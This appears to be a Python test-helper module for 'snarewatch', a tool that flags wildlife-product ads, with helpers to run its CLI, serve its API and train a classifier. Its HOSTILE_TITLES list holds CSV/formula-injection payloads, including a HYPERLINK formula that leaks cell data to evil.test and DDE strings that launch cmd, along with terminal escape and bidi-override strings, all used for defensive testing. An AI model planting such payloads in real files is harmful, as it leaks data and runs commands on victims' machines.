"""Helpers of the fault and abuse suite: the real CLI and server, a real store, hostile text."""

from __future__ import annotations

import os
import subprocess
import sys
from collections.abc import Callable, Iterator, Sequence
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path

import httpx
from local_http import free_port, stop, wait_until_ready

from snarewatch.config import Settings
from snarewatch.schema import Ad, Label, Record, stable_id
from snarewatch.store import Landing, load_pending

CLI = Callable[..., subprocess.CompletedProcess[str]]

HOSTILE_TITLES = (
    '=HYPERLINK("http://evil.test/?leak="&A1,"Click for price")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1 tab first",
    "\r=1+1 carriage return first",
    "Ivory bangle [/b] closes a tag it never opened",
    "[white on white]invisible pangolin scales[/white on white]",
    "\x1b[2J\x1b[31mscreen wiped, text turned red",
    "pangolin \u202escales reversed\u202c",
)
"""Ad titles a hostile seller can post: spreadsheet formulas and terminal markup."""


def run_cli(root: Path, *args: str, stdin: str | None = None, env: dict[str, str] | None = None,
            timeout: float = 180) -> subprocess.CompletedProcess[str]:
    """`snarewatch ARGS` in a subprocess with its data dir under `root` and no config file."""
    full_env = {k: v for k, v in os.environ.items() if not k.startswith("SNAREWATCH_")}
    full_env.update(SNAREWATCH_DATA_DIR=str(root / "data"),
                    SNAREWATCH_CONFIG=str(root / "absent.toml"), HF_HUB_OFFLINE="1",
                    COLUMNS="200", **(env or {}))
    return subprocess.run([sys.executable, "-m", "snarewatch", *args], cwd=root, env=full_env,
                          input=stdin, capture_output=True, text=True, timeout=timeout)


def land(settings: Settings, records: Sequence[Record]) -> None:
    """Write records as a landing batch and load them into the store."""
    Landing(settings.landing_dir).write(list(records))
    load_pending(settings.db_path, settings.landing_dir)


WILD = ("Carved ivory bangle", "Pangolin scales, dried", "Rhino horn cup", "Tiger skin rug",
        "Live slow loris for sale", "Shark fin bundle", "Tortoiseshell comb", "Bear bile capsules",
        "Elephant tusk carving", "Hawksbill turtle shell")
PLAIN = ("Garden chair", "Used phone charger", "Wooden desk lamp", "Kids bicycle", "Faux fur coat",
         "Tiger brand spanner set", "Cotton t-shirt", "Coffee table", "Laptop bag", "Wool scarf")


def train_wildlife(settings: Settings) -> str:
    """Land 20 hand-labelled ads and train (and promote) a tfidf wildlife student; its id."""
    from classifiers.train import train_task

    ads, labels = [], []
    for i, (title, value) in enumerate([(t, "wildlife_product") for t in WILD]
                                       + [(t, "not_wildlife") for t in PLAIN]):
        ads.append(Ad(ad_id=f"ad{i}", site="test", source="import", title=title,
                      url=f"http://market.test/ad/{i}"))
        labels.append(Label(label_id=stable_id("gold", i), task="wildlife", item_id=f"ad{i}",
                            item_kind="ad", value=value, source="human:test"))
    land(settings, ads)
    land(settings, labels)
    result = train_task(settings, "wildlife", student="tfidf", folds=2)
    land(settings, [])
    return result.model.model_id


@dataclass
class Server:
    """A running `snarewatch serve`."""

    url: str
    port: int
    token: str
    data_dir: Path
    process: subprocess.Popen[bytes]

    def client(self, token: bool = True, **kwargs: object) -> httpx.Client:
        """An HTTP client for the API, with or without the token."""
        headers = {"Authorization": f"Bearer {self.token}"} if token else {}
        return httpx.Client(base_url=self.url, headers=headers, timeout=30, **kwargs)  # type: ignore[arg-type]


@contextmanager
def serve(data_dir: Path, *args: str) -> Iterator[Server]:
    """`snarewatch serve ARGS` for `data_dir` on a free port; stops it on exit."""
    port = free_port()
    env = {k: v for k, v in os.environ.items() if not k.startswith("SNAREWATCH_")}
    env.update(SNAREWATCH_DATA_DIR=str(data_dir), HF_HUB_OFFLINE="1",
               SNAREWATCH_CONFIG=str(data_dir / "absent.toml"))
    log = data_dir.parent / f"serve-{port}.log"
    with log.open("wb") as fh:
        cmd = [sys.executable, "-m", "snarewatch", "serve", "--port", str(port), *args]
        process = subprocess.Popen(cmd, env=env, stdout=fh, stderr=subprocess.STDOUT)
    url = f"http://127.0.0.1:{port}"
    token_file = data_dir / "api-token"

    def healthy() -> bool:
        if not token_file.exists():
            return False
        headers = {"Authorization": f"Bearer {token_file.read_text().strip()}"}
        return httpx.get(f"{url}/v1/health", headers=headers, timeout=2).status_code == 200

    try:
        wait_until_ready(process, healthy, name="snarewatch serve", timeout_s=60,
                         output=lambda: log.read_text(errors="replace")[-2000:])
        yield Server(url=url, port=port, token=token_file.read_text().strip(), data_dir=data_dir,
                     process=process)
    finally:
        stop(process, timeout_s=10)
